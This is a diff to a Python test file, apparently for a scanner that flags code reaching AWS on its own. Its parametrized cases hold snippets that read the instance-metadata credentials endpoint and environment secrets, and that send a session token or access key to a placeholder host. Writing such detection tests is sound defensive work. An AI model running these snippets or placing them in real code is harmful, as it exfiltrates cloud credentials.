@@ -109,6 +109,10 @@ def test_code_that_is_loaded_while_it_runs_is_reported(body: str) -> None:
         ("import requests\nfrom requests_aws4auth import AWS4Auth", "requests.get('https://x', auth=AWS4Auth('a', 'b', 'c', 'd'))"),
         ("import urllib.request", "urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read()"),
         ("import requests", "requests.put('http://169.254.169.254/latest/api/token')"),
+        ("import os, hmac", "hmac.new(b'AWS4' + os.environ['AWS_SECRET_ACCESS_KEY'].encode(), b'd', 'sha256')"),
+        ("import os", "send(os.getenv('AWS_SESSION_TOKEN'))"),
+        ("import os", "os.environ.update({'AWS_SECRET_ACCESS_KEY': events['k']})"),
+        ("import boto3, requests", "requests.get('https://x', headers={'k': boto3.Session().get_credentials().access_key})"),
     ],
 )
 def test_a_library_that_reaches_aws_by_itself_is_reported(imports: str, body: str) -> None:
